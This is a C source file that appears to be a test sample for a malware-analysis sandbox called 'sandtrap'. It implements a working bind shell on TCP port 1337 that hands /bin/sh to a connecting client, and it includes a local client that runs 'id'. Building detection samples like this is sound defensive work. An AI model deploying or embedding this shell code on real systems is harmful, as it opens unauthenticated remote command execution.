/* Bind shell: listens on TCP 1337, a forked client connects and sends commands, the accepted socket becomes the stdin/stdout of /bin/sh.
 * Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
 * simulated internet, reserved addresses). Built into the build directory and copied
 * without the exec bit; never run it on a host, only through `sandtrap analyze`.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(1337)};
	int one = 1, srv = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(srv, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(srv, (struct sockaddr *)&a, sizeof(a)) != 0 || listen(srv, 1) != 0) {
		perror("bind/listen");
		return 1;
	}
	alarm(4);
	if (fork() == 0) {
		inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
		int c = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(c, (struct sockaddr *)&a, sizeof(a)) != 0)
			_exit(1);
		const char cmd[] = "id; exit\n";
		if (write(c, cmd, strlen(cmd)) < 0)
			_exit(1);
		char buf[256];
		ssize_t n = read(c, buf, sizeof(buf) - 1);
		printf("operator got: %.*s", (int)(n > 0 ? n : 0), buf);
		_exit(0);
	}
	int conn = accept(srv, NULL, NULL);
	if (conn < 0)
		return 1;
	if (fork() == 0) {
		for (int fd = 0; fd < 3; fd++)
			dup2(conn, fd);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		_exit(127);
	}
	close(conn);
	while (wait(NULL) > 0)
		;
	return 0;
}
